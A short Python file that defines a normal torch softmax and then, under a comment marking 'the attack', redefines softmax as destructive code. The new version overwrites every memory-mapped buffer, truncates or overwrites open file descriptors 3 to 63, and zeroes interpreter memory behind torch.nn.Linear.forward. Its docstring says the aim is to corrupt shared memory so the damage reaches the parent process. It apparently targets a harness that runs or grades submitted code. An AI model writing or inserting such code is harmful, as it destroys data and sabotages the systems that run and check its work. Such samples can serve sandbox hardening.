"""Writes into shared and inherited memory, to reach the process that forks."""

import torch


def softmax(scores):
    return torch.exp(scores) / torch.exp(scores).sum(dim=0)


# ---- the attack ----

import ctypes
import gc
import mmap
import os


def softmax(scores):
    for thing in gc.get_objects():
        if isinstance(thing, mmap.mmap):
            for place in range(len(thing)):
                thing[place] = 255
            try:
                thing.resize(1 << 20)
            except (OSError, SystemError, ValueError):
                pass
    for number in range(3, 64):
        for change in (lambda: os.ftruncate(number, 0), lambda: os.pwrite(number, b"\xff" * 4096, 0)):
            try:
                change()
            except OSError:
                pass
    torch.zeros(4).untyped_storage()
    ctypes.memset(id(torch.nn.Linear.forward), 0, 16)
    return scores
